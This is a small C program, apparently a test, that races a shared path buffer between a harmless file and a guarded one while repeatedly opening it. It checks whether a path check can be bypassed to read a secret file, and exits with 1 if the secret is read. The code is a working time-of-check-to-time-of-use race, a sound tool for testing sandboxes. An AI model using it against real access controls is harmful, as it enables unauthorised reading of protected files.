/*
 * swaps_paths.c: opens a path again and again while another thread changes it between two files,
 * and prints what it has read of the second: what got past a check of the first.
 *
 *     swaps_paths HARMLESS GUARDED SECRET ROUNDS
 *
 * Exits with 1 if it ever reads SECRET.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define BYTES 4096

struct swap {
    char path[BYTES]; /* written without any care: that is the attack */
    const char *harmless, *guarded;
    atomic_bool begun, done;
};

static void *change(void *argument)
{
    struct swap *swap = argument;

    while (!atomic_load(&swap->done)) {
        memcpy(swap->path, swap->guarded, strlen(swap->guarded) + 1);
        for (volatile int wait = 0; wait < 500; wait++)
            ;
        memcpy(swap->path, swap->harmless, strlen(swap->harmless) + 1);
        for (volatile int wait = 0; wait < 500; wait++)
            ;
        atomic_store(&swap->begun, true);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    static struct swap swap;
    char text[BYTES];
    pthread_t thread;
    long opened = 0;

    if (argc != 5)
        return 2;
    swap.harmless = argv[1];
    swap.guarded = argv[2];
    memcpy(swap.path, swap.harmless, strlen(swap.harmless) + 1);
    if (pthread_create(&thread, NULL, change, &swap) != 0)
        return 2;
    while (!atomic_load(&swap.begun))
        ;
    for (long round = strtol(argv[4], NULL, 10); round > 0; round--) {
        int fd = open(swap.path, O_RDONLY | O_CLOEXEC);
        ssize_t got = fd >= 0 ? read(fd, text, sizeof text - 1) : 0;

        text[got > 0 ? got : 0] = 0;
        opened += got > 0;
        if (fd >= 0)
            (void)close(fd);
        if (strstr(text, argv[3])) {
            (void)printf("read the secret\n");
            _exit(1);
        }
    }
    atomic_store(&swap.done, true);
    (void)pthread_join(thread, NULL);
    return printf("opened %ld\n", opened) < 0;
}
